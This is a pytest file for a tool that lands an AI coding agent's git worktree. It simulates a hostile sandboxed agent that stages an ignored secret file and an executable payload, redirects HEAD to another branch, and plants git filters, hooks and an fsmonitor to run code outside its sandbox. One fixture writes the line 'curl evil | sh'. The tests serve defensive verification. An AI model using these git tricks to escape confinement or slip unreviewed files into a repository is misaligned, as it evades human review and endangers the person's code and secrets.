"""A hostile agent's worktree against lfg's own git (worktrees/confined.py): on real git repositories
in temporary folders, the agent does what a sandbox lets it do in its worktree and its worktree's git
folder (stage ignored files, point its HEAD at another branch, write a `config.worktree` with filters,
hooks and an fsmonitor, a `.gitattributes` that names them), and lfg reviews, measures, forks and
lands it. Review shows exactly what lands, nothing of the agent's runs, and no branch of the
person's but the target moves."""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path

import pytest

from lfgtui.worktrees.land import LandOptions, land
from lfgtui.worktrees.patch import header_path
from lfgtui.worktrees.snapshot import checkout, take
from lfgtui.worktrees.tree import (
    Worktree,
    create_worktree,
    diff_stat,
    diff_text,
    fork_worktree,
)
from tests.support.box import NOBODY_ID, USERS, person
from tests.support.git import commit_all, git, isolate_git, repository
from tests.support.hostile_box import KEY, Findings


@pytest.fixture(autouse=True)
def isolated(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    isolate_git(tmp_path, monkeypatch)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """The person's project: a file to change, secrets and build output ignored, a release branch."""
    repo = repository(tmp_path / "repo")
    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    (repo / ".gitignore").write_text(".env\ndist/\n")
    commit_all(repo, "calc")
    git(repo, "branch", "release")
    git(repo, "switch", "-q", "release")
    (repo / "RELEASE.md").write_text("1.0\n")
    commit_all(repo, "release notes")
    git(repo, "switch", "-q", "main")
    return repo


async def agent_tree(repo: Path, tmp_path: Path, ticket: str = "t") -> tuple[Worktree, Path]:
    """A ticket's worktree made by lfg, the agent's fix in it, and the worktree's own git folder."""
    tree = await create_worktree(repo, "run1", ticket, tmp_path / "trees")
    (tree.path / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    return tree, Path(git(tree.path, "rev-parse", "--absolute-git-dir"))


def shown(diff: str) -> list[str]:
    return [path for line in diff.splitlines() if (path := header_path(line)) is not None]


def landed_files(repo: Path, landed_commit: str, before: str) -> list[str]:
    return git(repo, "diff", "--name-only", before, landed_commit).splitlines()


def options() -> LandOptions:
    return LandOptions(message="Fix add")


async def test_what_the_agent_staged_that_review_does_not_show_is_not_landed_and_is_named(
    repo: Path, tmp_path: Path
) -> None:
    """Fails before: `git add --all` and `git commit` in the worktree landed its own index, `.env`
    (with its secret) and an executable `dist/payload.sh` with it."""
    tree, _ = await agent_tree(repo, tmp_path)
    (tree.path / ".env").write_text("SECRET=hunter2\n")  # as .worktreeinclude copies it in
    (tree.path / "dist").mkdir()
    (tree.path / "dist" / "payload.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (tree.path / "dist" / "payload.sh").chmod(0o755)
    empty = git(tree.path, "hash-object", "-w", "--stdin")
    git(tree.path, "update-index", "--add", "--cacheinfo", f"100644,{empty},.env")
    git(tree.path, "update-index", "--add", "--cacheinfo", f"100755,{empty},dist/payload.sh")
    before = git(repo, "rev-parse", "main")

    review = shown(await diff_text(tree))
    landed = await land(tree, options())

    assert review == ["calc.py"]
    assert landed_files(repo, landed.landed_commit, before) == review, "exactly what review showed"
    assert git(repo, "ls-tree", "-r", "--name-only", "main").splitlines() == [
        ".gitignore",
        "README.md",
        "calc.py",
    ]
    assert "not landed: .env, dist/payload.sh, staged in the worktree's own index" in landed.reviewed
    tree_id = git(repo, "rev-parse", f"{landed.landed_commit}^{{tree}}")
    assert f"landed the files review shows (tree {tree_id[:12]}" in landed.summary("t")


@pytest.mark.parametrize("target", ["release", "main"])
async def test_a_worktree_head_pointed_at_another_branch_moves_no_branch_but_the_target(
    repo: Path, tmp_path: Path, target: str
) -> None:
    """Fails before: with HEAD at `refs/heads/release`, the agent's tree was committed onto release
    (deleting RELEASE.md there); with it at `main`, the leftovers were committed straight onto main,
    lfg took the agent's worktree for the person's checkout of main (it ran `git merge` there), and a
    rebase of main the agent claimed in its git folder refused the landing."""
    tree, own = await agent_tree(repo, tmp_path)
    git(repo, "switch", "-q", "-c", "elsewhere")  # the person works on another branch now
    (own / "HEAD").write_text(f"ref: refs/heads/{target}\n")
    (own / "rebase-merge").mkdir()
    (own / "rebase-merge" / "head-name").write_text(f"refs/heads/{target}\n")
    release, before = git(repo, "rev-parse", "release"), git(repo, "rev-parse", "main")

    review = shown(await diff_text(tree))
    landed = await land(tree, options())

    assert review == ["calc.py"]
    assert git(repo, "rev-parse", "release") == release, "the person's release branch is untouched"
    assert git(repo, "rev-parse", "main") == landed.landed_commit
    assert git(repo, "rev-parse", "main^") == before
    assert landed_files(repo, landed.landed_commit, before) == review
    assert git(repo, "symbolic-ref", "--short", "HEAD") == "elsewhere"


async def test_a_fork_starts_from_the_branch_lfg_made_not_the_worktree_head(
    repo: Path, tmp_path: Path
) -> None:
    """Fails before: the fork's branch started at whatever the parent's HEAD named (release)."""
    tree, own = await agent_tree(repo, tmp_path)
    (own / "HEAD").write_text("ref: refs/heads/release\n")

    fork = await fork_worktree(tree, "t2", tmp_path / "trees")

    assert git(repo, "rev-parse", fork.branch) == tree.base
    assert not (fork.path / "RELEASE.md").exists()
    assert shown(await diff_text(fork)) == ["calc.py"]


def marker_script(folder: Path, marker: Path) -> Path:
    """A program that, if anything runs it, leaves `marker` behind (and passes its input through)."""
    script = folder / "mark.sh"
    script.write_text(f'#!/bin/sh\necho "$0 $*" >> "{marker}"\ncat\n')
    script.chmod(0o755)
    return script


async def test_the_agents_config_worktree_filters_hooks_and_fsmonitor_never_run(
    repo: Path, tmp_path: Path
) -> None:
    """Fails before: with `extensions.worktreeConfig` (git sparse-checkout turns it on), the agent's
    `config.worktree` clean filter ran outside the box while lfg measured, reviewed and landed."""
    git(repo, "config", "extensions.worktreeConfig", "true")
    tree, own = await agent_tree(repo, tmp_path)
    git(repo, "switch", "-q", "-c", "elsewhere")
    marker = tmp_path / "marker"
    script = marker_script(own, marker)
    hooks = own / "hooks"
    hooks.mkdir()
    for name in ("pre-commit", "post-commit", "post-checkout", "reference-transaction", "post-index-change"):
        (hooks / name).symlink_to(script)
    (own / "config.worktree").write_text(
        f'[filter "x"]\n\tclean = {script}\n\tsmudge = {script}\n\trequired = true\n'
        f'[diff "x"]\n\ttextconv = {script}\n\tcommand = {script}\n'
        f"[core]\n\thooksPath = {hooks}\n\tfsmonitor = {script}\n"
    )
    (tree.path / ".gitattributes").write_text("* filter=x diff=x\n")
    before = git(repo, "rev-parse", "main")

    stat = await diff_stat(tree)
    review = shown(await diff_text(tree))
    landed = await land(tree, options())

    assert not marker.exists(), marker.read_text()
    assert (stat.files, review) == (2, [".gitattributes", "calc.py"])
    assert landed_files(repo, landed.landed_commit, before) == review
    assert git(repo, "show", f"{landed.landed_commit}:calc.py").endswith("return a + b")


@pytest.mark.parametrize("name", ["fmt", "f.m=t"])
async def test_a_filter_of_the_persons_whose_script_the_agent_rewrote_never_runs(
    repo: Path, tmp_path: Path, name: str
) -> None:
    """The person's own filter runs a script tracked in the repository: in the worktree, the agent
    rewrote it and named the filter for every file. Fails before: lfg ran it as the person."""
    (repo / "tools").mkdir()
    (repo / "tools" / "fmt.sh").write_text("#!/bin/sh\ncat\n")
    (repo / "tools" / "fmt.sh").chmod(0o755)
    commit_all(repo, "a formatter")
    git(repo, "config", f"filter.{name}.clean", "tools/fmt.sh")
    git(repo, "config", f"filter.{name}.smudge", "tools/fmt.sh")
    git(repo, "config", f"filter.{name}.required", "true")
    git(repo, "config", f"filter.{name}.process", "tools/fmt.sh --process")  # as git-lfs's filter is
    tree, _ = await agent_tree(repo, tmp_path)
    git(repo, "switch", "-q", "-c", "elsewhere")
    marker = tmp_path / "marker"
    (tree.path / "tools" / "fmt.sh").write_text(f'#!/bin/sh\necho ran >> "{marker}"\ncat\n')
    (tree.path / ".gitattributes").write_text(f"* filter={name}\n")

    await diff_stat(tree)
    review = shown(await diff_text(tree))
    fork = await fork_worktree(tree, "t2", tmp_path / "trees")
    await diff_text(fork)
    landed = await land(tree, options())

    assert not marker.exists()
    assert review == [".gitattributes", "calc.py", "tools/fmt.sh"]
    assert landed.landed_commit == git(repo, "rev-parse", "main")


async def test_a_checked_snapshot_stands_on_the_branch_lfg_made_and_its_checkout_runs_no_filter(
    repo: Path, tmp_path: Path
) -> None:
    """A tournament's snapshot and the fresh checkout its check runs in (the script sorts before the
    files it would filter, so git has written it when it checks them out). Fails before: the snapshot
    was committed on the worktree's HEAD (release, so it carried RELEASE.md), and checking it out ran
    the person's filter with the script the agent rewrote."""
    (repo / ".tools").mkdir()
    (repo / ".tools" / "fmt.sh").write_text("#!/bin/sh\ncat\n")
    (repo / ".tools" / "fmt.sh").chmod(0o755)
    commit_all(repo, "a formatter")
    git(repo, "config", "filter.fmt.smudge", ".tools/fmt.sh")
    tree, own = await agent_tree(repo, tmp_path)
    marker = tmp_path / "marker"
    (tree.path / ".tools" / "fmt.sh").write_text(f'#!/bin/sh\necho ran >> "{marker}"\ncat\n')
    (tree.path / ".gitattributes").write_text("* filter=fmt\n")
    (own / "HEAD").write_text("ref: refs/heads/release\n")

    snapshot = await take(tree)
    async with checkout(snapshot, (), ()) as workdir:
        checked_out = sorted(path.name for path in workdir.iterdir() if path.name != ".git")

    assert not marker.exists()
    assert git(repo, "rev-parse", f"{snapshot.commit}^") == git(repo, "rev-parse", tree.branch)
    assert "RELEASE.md" not in checked_out and "calc.py" in checked_out


@pytest.mark.timeout(180)  # two runs and a landing, as a rootless podman too: 30 s here at load 16
@pytest.mark.parametrize("user", list(USERS))
async def test_a_sandboxed_agent_that_stages_redirects_and_filters_lands_only_what_review_shows(
    box: str, user: str
) -> None:
    """The same attacks made by the sim ticket itself, with git, inside each box (the worktree's git
    folder is writable there), with lfg itself (its run, its git, its review and land) run as root
    and as a normal user (tests/support/hostile_box.py): it stages an ignored `.env` and an
    executable `dist/payload.sh`, points its HEAD at release, writes a `config.worktree` clean filter
    that `.gitattributes` names for every file, and tries the home. Landing it lands calc.py alone;
    nothing of its ran outside; release did not move; the home is as it was and its key unread; what
    it wrote in its worktree is the person's. Fails before: the landing held `.env` and the payload,
    committed on release first; and as a normal user, podman's box wrote as a subordinate uid of
    theirs, which their worktree refused (`sed: couldn't open temporary file`)."""
    with person(user, box) as someone:
        module = ("-m", "tests.support.hostile_box", box, str(someone.folder))
        done = await asyncio.to_thread(someone.run, *module)
        uid = NOBODY_ID if someone.prefix else os.getuid()
    assert done.returncode == 0, done.stderr
    found = Findings(**json.loads(done.stdout))
    assert found.outcomes == {"one": "completed", "two": "completed"}, found
    output = "".join(found.outputs)
    assert "hostile done" in output, found.outputs
    assert "CapEff:\t0000000000000000" in output and KEY not in output, output
    assert any(said.startswith(f"sandbox {box}: writes only in") for said in found.said), found.said
    assert not found.ran_outside
    assert found.review == [".gitattributes", "calc.py"]
    assert found.landed == found.review
    assert not found.release_moved
    assert "not landed: .env, dist/payload.sh" in found.reviewed
    assert not found.secret_in_history
    assert not found.home_written and not found.hook_planted, output
    assert found.agent_outcome == "completed" and found.agent_wrote == 1, found.agent_outputs
    agent_said = "".join(found.agent_outputs)
    assert KEY not in agent_said and not found.agent_home_written, found.agent_outputs
    assert found.owners == [uid], "what the agents wrote, and lfg for them, is the person's"
    assert found.containers_left == [], "lfg removed its containers"
